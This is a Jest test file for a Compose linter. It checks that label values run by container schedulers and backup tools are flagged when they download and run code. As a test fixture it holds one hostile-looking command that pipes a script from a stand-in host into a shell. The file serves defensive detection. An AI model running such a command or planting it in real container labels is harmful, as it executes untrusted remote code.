import { expect, it } from '@jest/globals';
import { failuresOf } from './failures.ts';

const SERVICE = 'services:\n  a:\n    image: registry.example.com/app:1.4\n';
const HOSTILE = 'sh -c "curl -s https://x.example.org/a.sh | sh"';
const HARMLESS = 'sh -c "pg_dump app > /backup/app.sql"';

const withLabel = (name: string, value: string) => ({
  'compose.yaml': `${SERVICE}    labels:\n      ${name}: ${JSON.stringify(value)}\n`,
});

/** Labels whose value a scheduler runs in the container. */
const COMMANDS = [
  'ofelia.job-exec.nightly.command',
  'ofelia.job-local.nightly.command',
  'chadburn.job-exec.nightly.command',
  'deck-chores.dump.command',
  'docker-volume-backup.archive-pre',
  'docker-volume-backup.exec-pre',
  'docker-volume-backup.exec-post',
  'com.centurylinklabs.watchtower.lifecycle.post-update',
];

it.each(COMMANDS)('reads the command in the label %s', async (name) => {
  const base = { 'compose.yaml': SERVICE };
  expect(await failuresOf(base, withLabel(name, HOSTILE))).toEqual(['command-downloads-code']);
  expect(await failuresOf(base, withLabel(name, HARMLESS))).toEqual([]);
});

it.each(['ofelia.job-exec.nightly.schedule', 'org.opencontainers.image.description', 'traefik.http.routers.a.rule'])(
  'does not take the label %s for a command',
  async (name) => {
    expect(await failuresOf({ 'compose.yaml': SERVICE }, withLabel(name, HOSTILE))).toEqual([]);
  },
);
